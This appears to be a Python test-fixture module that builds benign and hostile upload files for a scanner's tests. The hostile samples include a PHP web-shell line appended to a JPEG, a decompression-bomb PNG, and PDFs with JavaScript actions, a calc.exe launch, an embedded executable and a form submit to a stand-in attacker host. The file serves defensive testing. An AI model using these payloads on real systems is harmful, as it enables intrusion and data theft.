"""Files for the upload tests: good ones made as a scanner or a PDF printer would, and the hostile
ones the security review found accepted (each built here byte by byte, so a test says what it is).
"""

import io
import struct
import zipfile
import zlib

from PIL import Image

from revocation.demo.walk import DEMO_PDF, pdf
from shared.uploads import EICAR


def image(fmt: str, size=(16, 16), **save) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, fmt, **save)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width``×``height`` pixels (a decompression bomb's shape)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00"))
        + png_chunk(b"IEND", b"")
    )


def png_with_pixels(row: bytes) -> bytes:
    """A one-row grey PNG stored uncompressed, so ``row`` appears as it is inside its IDAT data
    (as four random bytes of a real scan's compressed data can spell ``<svg``)."""
    header = struct.pack(">IIBBBBB", len(row), 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" + row, 0))
        + png_chunk(b"IEND", b"")
    )


def png_with_text(text: bytes) -> bytes:
    """A whole PNG carrying ``text`` in a tEXt chunk (valid: every check but a scanner passes)."""
    good = image("PNG")
    iend = good.rindex(b"IEND") - 4
    return good[:iend] + png_chunk(b"tEXt", b"Comment\x00" + text) + good[iend:]


def a_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<b>hi</b>")
    return buffer.getvalue()


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt("secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_annotation(annotation: bytes, *more: bytes) -> bytes:
    """A one-page PDF whose page carries ``annotation`` (object 4; ``more`` from 5 on)."""
    return pdf(
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>",
        annotation,
        *more,
        root_extra=b"/Pages 2 0 R",
        pages=False,
    )


def link(action: bytes) -> bytes:
    return pdf_with_annotation(b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A" + action + b">>")


# A harmless link to a web page, as a PDF printer writes one: accepted.
PDF_WITH_WEB_LINK = link(b"<</S/URI/URI(https://www.example.ir/page)>>")

PNG = image("PNG")
JPEG = image("JPEG")

# (what it is, file name, bytes, the Persian words the form must show)
HOSTILE = [
    (
        "pdf_with_eicar",
        "scan.pdf",
        DEMO_PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + EICAR + b"\n"),
        "رشته آزمایشی ضدویروس (EICAR)",
    ),
    (
        "png_then_html",
        "scan.png",
        PNG + b"<html><script>alert(1)</script></html>",
        "کد صفحه وب یا اسکریپت",
    ),
    ("png_declaring_50000x50000", "bomb.png", png_declaring(50000, 50000), "ابعاد این تصویر"),
    ("pdf_then_zip", "scan.pdf", DEMO_PDF + a_zip(), "فایل فشرده (ZIP) پنهان"),
    (
        "pdf_openaction_javascript",
        "scan.pdf",
        pdf(root_extra=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        "محتوای فعال",
    ),
    (
        # The name written with a #61 escape: no byte says "JavaScript", pypdf's walk decodes it.
        "pdf_escaped_javascript_name",
        "scan.pdf",
        pdf(b"<</Names[(a) 5 0 R]>>", b"<<>>", root_extra=b"/Names<</J#61vaScript 4 0 R>>"),
        "محتوای فعال",
    ),
    (
        # No reference reaches it: only the raw scan sees it.
        "pdf_orphan_launch",
        "scan.pdf",
        pdf(b"<</Type/Action/S/Launch/F(calc.exe)>>"),
        "محتوای فعال",
    ),
    (
        # Issue 21: an executable as a file-attachment annotation on the page.
        "pdf_file_attachment_annotation",
        "scan.pdf",
        pdf_with_annotation(
            b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 5 0 R>>",
            b"<</Type/Filespec/F(setup.exe)/EF<</F 6 0 R>>>>",
            b"<</Type/EmbeddedFile/Length 4>>stream\nMZ\x90\x00\nendstream",
        ),
        "فایل پیوست",
    ),
    (
        "pdf_javascript_link",
        "scan.pdf",
        link(b"<</S/URI/URI(javascript:app.alert(1))>>"),
        "javascript:",
    ),
    (
        # The same link written as a hex string: no byte says "javascript", pypdf decodes it.
        "pdf_hex_javascript_link",
        "scan.pdf",
        link(b"<</S/URI/URI<" + b"javascript:alert(1)".hex().encode() + b">>>"),
        "javascript:",
    ),
    (
        "pdf_file_link",
        "scan.pdf",
        link(b"<</S/URI/URI(file://fileserver/share/run.exe)>>"),
        "javascript:",
    ),
    (
        "pdf_gotor_network_share",
        "scan.pdf",
        link(b"<</S/GoToR/F(\\\\\\\\fileserver\\\\share\\\\a.pdf)/D[0/Fit]>>"),
        "پوشه اشتراکی شبکه",
    ),
    (
        "pdf_submitform",
        "scan.pdf",
        link(b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>"),
        "ارسال فرم",
    ),
    (
        "pdf_importdata",
        "scan.pdf",
        link(b"<</S/ImportData/F(\\\\\\\\fileserver\\\\share\\\\data.fdf)>>"),
        "خواندن داده",
    ),
    ("pdf_encrypted", "scan.pdf", encrypted_pdf(), "رمزگذاری شده"),
    ("pdf_without_pages", "scan.pdf", pdf(pages=False), "هیچ صفحه‌ای ندارد"),
    ("pdf_garbage", "scan.pdf", b"%PDF-1.4\n" + b"garbage " * 40, "خراب است یا خوانده نمی‌شود"),
    ("jpeg_then_php", "photo.jpg", JPEG + b"<?php system($_GET['c']); ?>", "کد صفحه وب یا اسکریپت"),
    ("png_then_bytes", "scan.png", PNG + b"\x01\x02trailing", "پس از پایان تصویر"),
    ("jpeg_then_bytes", "photo.jpg", JPEG + b"\x01\x02trailing", "پس از پایان تصویر"),
    ("png_truncated", "scan.png", PNG[:40], "خراب است یا کامل خوانده نمی‌شود"),
]
